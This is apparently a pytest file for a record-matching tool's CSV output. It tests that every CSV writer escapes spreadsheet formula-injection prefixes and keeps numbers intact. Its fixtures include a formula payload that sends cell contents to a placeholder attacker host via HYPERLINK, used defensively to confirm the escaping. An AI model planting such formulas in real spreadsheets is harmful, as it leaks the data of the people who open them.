"""Every CSV kinmatch writes is safe to open in a spreadsheet: text cells that Excel, LibreOffice
or Google Sheets would run as a formula are escaped (the OWASP recipe), numbers stay numbers."""

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kinmatch._io import FORMULA_PREFIXES, csv_text, excel_safe, write_csv

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def _rows(path_or_text):
    if isinstance(path_or_text, Path):
        with open(path_or_text, encoding="utf-8-sig", newline="") as handle:
            return list(csv.reader(handle))
    return list(csv.reader(io.StringIO(path_or_text, newline="")))


def _is_number(text):
    return re.fullmatch(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", text) is not None


def test_helper_escapes_the_owasp_prefixes(tmp_path):
    frame = pd.DataFrame({"note": [PAYLOAD, "+86 138", "-1+1", "@SUM(A1)", "\tx", "\rx", "正常", "-3"],
                          "score": [-1.5, 2.0, 3.0, -4.0, 5.0, 6.0, 7.0, 8.0]})
    rows = _rows(write_csv(frame, tmp_path / "out.csv"))
    assert [row[0] for row in rows[1:]] == ["'" + PAYLOAD, "'+86 138", "'-1+1", "'@SUM(A1)", "'\tx",
                                            "'\rx", "正常", "-3"]
    assert [row[1] for row in rows[1:]][:2] == ["-1.5", "2.0"]  # numbers stay numbers
    back = pd.read_csv(tmp_path / "out.csv", encoding="utf-8-sig")
    assert back["score"].dtype.kind == "f"


def test_column_names_are_escaped_too():
    assert list(excel_safe(pd.DataFrame({"=cmd": [1]})).columns) == ["'=cmd"]


def test_the_input_frame_is_not_changed():
    frame = pd.DataFrame({"note": ["=1"]})
    excel_safe(frame)
    assert frame["note"].item() == "=1"


_cells = st.one_of(
    st.text(max_size=12),
    st.builds(lambda p, t: p + t, st.sampled_from(TRIGGERS), st.text(max_size=10)),
    st.integers(-10**6, 10**6).map(str),
    st.none(),
)


@settings(max_examples=200, deadline=None, database=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(texts=st.lists(_cells, min_size=1, max_size=8),
       numbers=st.lists(st.floats(allow_nan=False, allow_infinity=False, width=32), min_size=1, max_size=8))
def test_no_written_text_cell_starts_a_formula(texts, numbers):
    n = min(len(texts), len(numbers))
    frame = pd.DataFrame({"text": texts[:n], "number": numbers[:n]})
    rows = _rows(csv_text(frame))
    assert len(rows) == n + 1
    for (text_cell, number_cell), original, number in zip(rows[1:], texts[:n], numbers[:n], strict=True):
        if original is None:
            assert text_cell == ""
        elif original.startswith(FORMULA_PREFIXES) and not _is_number(original):
            assert text_cell == "'" + original  # escaped, and nothing else changed
        else:
            assert text_cell == original
        assert text_cell == "" or not text_cell.startswith(TRIGGERS) or _is_number(text_cell)
        assert float(number_cell) == pytest.approx(number, rel=1e-6, abs=1e-30)


# ---------------------------------------------------------------- every writer uses the helper

def test_no_module_writes_csv_around_the_helper():
    """``to_csv`` / ``csv.writer`` appear only in kinmatch/_io.py (and the modules listed here,
    each with its reason), so a new writer cannot skip the escaping."""
    allowed = {"kinmatch/_io.py"}
    root = Path(__file__).resolve().parent.parent
    offenders = []
    for path in sorted((root / "kinmatch").rglob("*.py")):
        relative = path.relative_to(root).as_posix()
        if relative in allowed:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            code = line.split("#")[0]
            if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", code) and ">>>" not in line:
                offenders.append(f"{relative}:{number}: {line.strip()}")
    assert offenders == []


def test_link_escapes_candidates_and_issues(tmp_path):
    from kinmatch.cli import main
    from kinmatch.datasets.simulate import simulate

    small = simulate(n_missing=80, n_residents=15, seed=3)
    residents = small.residents.copy()
    date_column = next(c for c in residents.columns if "date" in c or "日期" in c)
    residents.loc[residents.index[2], date_column] = PAYLOAD
    res_path, mis_path = tmp_path / "res.csv", tmp_path / "mis.csv"
    residents.to_csv(res_path, index=False, encoding="utf-8-sig")
    small.missing.to_csv(mis_path, index=False, encoding="utf-8-sig")
    out = tmp_path / "candidates.csv"
    assert main(["link", str(res_path), str(mis_path), "-o", str(out), "--top-k", "3", "--no-progress"]) == 0
    issues = _rows(tmp_path / "candidates.issues.csv")
    cells = [cell for row in issues for cell in row]
    assert "'" + PAYLOAD in cells and PAYLOAD not in cells
    for row in _rows(out):
        for cell in row:
            assert not cell.startswith(("=", "+", "@")), cell


def test_link_writes_no_issues_file_when_linking_fails(tmp_path, monkeypatch):
    import kinmatch.match.pipeline
    from kinmatch.cli import main
    from kinmatch.datasets.simulate import simulate

    small = simulate(n_missing=20, n_residents=5, seed=3)
    residents = small.residents.copy()
    date_column = next(c for c in residents.columns if "date" in c or "日期" in c)
    residents.loc[residents.index[1], date_column] = "2023年13月"  # an intake issue
    res_path, mis_path = tmp_path / "res.csv", tmp_path / "mis.csv"
    residents.to_csv(res_path, index=False, encoding="utf-8-sig")
    small.missing.to_csv(mis_path, index=False, encoding="utf-8-sig")

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(kinmatch.match.pipeline, "run_link", interrupted)
    assert main(["link", str(res_path), str(mis_path), "-o", str(tmp_path / "c.csv"), "--no-progress"]) != 0
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mis.csv", "res.csv"]


def test_review_export_escapes_reviewer_notes(tmp_path):
    from review_fixtures import MISSING, RESIDENTS, candidates_table, levels_table

    from kinmatch.cli import main
    from kinmatch.review.store import Store

    store = Store(tmp_path / "e.db")
    store.load_candidates(candidates_table(), RESIDENTS, MISSING, run_id="run1", levels=levels_table())
    store.decide("R1", "M1", "same", "rev1", reason="@SUM(1+1)", note=PAYLOAD)
    store.close()
    out = tmp_path / "reviewed.csv"
    assert main(["review", "export", "--db", str(tmp_path / "e.db"), "-o", str(out)]) == 0
    cells = [cell for row in _rows(out) for cell in row]
    assert "'" + PAYLOAD in cells and "'@SUM(1+1)" in cells
    assert not [c for c in cells if c.startswith(("=", "@"))]


def test_review_load_reads_back_what_link_escaped(tmp_path):
    from kinmatch.commands.review import read_candidates

    frame = pd.DataFrame({"resident_id": ["R1"], "missing_id": ["=M1"], "rank": [1],
                          "match_probability": [0.9], "match_weight": [-1.5],
                          "explanation": ["+5.2 姓名相近\x00"]})
    path = write_csv(frame, tmp_path / "candidates.csv")
    back = read_candidates(path)
    assert back["missing_id"].tolist() == ["=M1"]
    assert back["explanation"].tolist() == ["+5.2 姓名相近"]
    assert back["match_weight"].tolist() == [-1.5]
